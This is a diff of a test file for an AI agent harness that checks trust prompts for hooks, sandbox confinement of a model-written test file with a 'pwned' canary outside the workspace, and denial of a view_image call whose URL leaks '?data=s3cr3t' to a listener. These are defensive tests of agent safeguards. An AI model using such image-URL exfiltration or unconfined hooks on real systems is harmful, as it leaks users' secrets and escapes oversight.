@@ -36,11 +36,12 @@ def place(tmp_path):
                            env={"HOME": str(home), "XDG_DATA_HOME": str(tmp_path / "data")})
 
 
-def run(place, calls, *flags, stdin=""):
+def run(place, calls, *flags, tty=None):
+    """`tinyharness run --yes`; `tty`: the answers typed at its terminal (a trust question, a URL)."""
     calls = [{"name": name, "arguments": arguments, "id": f"c{i}"} for i, (name, arguments) in enumerate(calls)]
     with ScriptedServer(script=[{"tool_calls": calls}, "done"] if calls else ["done"]) as server:
         result = run_stage("tinyharness", place.ws, "--yes", "--no-session", *flags, "--base-url", server.base_url,
-                           "task", env=place.env, stdin=stdin, timeout=60)
+                           "task", env=place.env, tty=tty, timeout=60)
     return result, (tool_results(server.requests[-1]) if len(server.requests) > 1 else {}), server
 
 
@@ -58,7 +59,7 @@ def hooks_that_run_the_tests(place, **entry):
 
 def test_the_trust_question_says_where_hooks_run_and_no_means_they_never_run(place):
     """Untrusted, nothing of the hooks file runs; the question says in words what trusting means."""
-    result, _, server = run(place, hooks_that_run_the_tests(place), stdin="n\n")
+    result, _, server = run(place, hooks_that_run_the_tests(place), tty="n\n")
     assert result.returncode == 2 and "was not trusted" in result.stderr, result.stderr
     assert "These commands run in the sandbox" in result.stdout and "UNCONFINED" not in result.stdout
     assert not place.pwned.exists() and not (place.ws / "ran").exists() and server.requests == []
@@ -69,7 +70,7 @@ def test_a_trusted_hook_that_runs_the_tests_runs_the_models_test_file_confined(p
     """Issue 28: a trusted post_tool_use hook running `python -m unittest` imports the test file the model
     just wrote. The hook runs in the sandbox: the file ran (it wrote in the workspace), the canary
     outside was never written."""
-    result, results, _ = run(place, hooks_that_run_the_tests(place), stdin="y\n")
+    result, results, _ = run(place, hooks_that_run_the_tests(place), tty="y\n")
     assert result.returncode == 0, result.stderr
     assert (place.ws / "ran").read_text() == "yes"
     assert not place.pwned.exists()
@@ -79,7 +80,7 @@ def test_a_trusted_hook_that_runs_the_tests_runs_the_models_test_file_confined(p
 def test_a_hook_with_sandbox_false_runs_unconfined_and_the_question_names_it(place):
     """The same hook with "sandbox": false reaches the canary: the attack above is real, and the
     question named that hook as unconfined before the user said yes."""
-    result, _, _ = run(place, hooks_that_run_the_tests(place, sandbox=False), stdin="y\n")
+    result, _, _ = run(place, hooks_that_run_the_tests(place, sandbox=False), tty="y\n")
     assert result.returncode == 0, result.stderr
     assert f"These run UNCONFINED (\"sandbox\": false): `{PY} -m unittest discover -q`" in result.stdout
     assert place.pwned.read_text() == "pwned"
@@ -109,10 +110,10 @@ def listener():
 
 def test_a_view_image_url_is_asked_even_under_yes(place, listener):
     url = f"{listener.url}/leak.png?data=s3cr3t"
-    result, results, _ = run(place, [("view_image", {"path": url})], stdin="")  # nobody answers: a no
+    result, results, _ = run(place, [("view_image", {"path": url})], tty=None)  # no terminal: nobody answers, a no
     assert results["c0"].startswith("DENIED") and listener.seen == [], results
     assert "Allow view_image(" in result.stdout
-    result, results, _ = run(place, [("view_image", {"path": url})], stdin="y\n")  # the user says yes
+    result, results, _ = run(place, [("view_image", {"path": url})], tty="y\n")  # the user says yes
     assert listener.seen == ["/leak.png?data=s3cr3t"], results
 
 
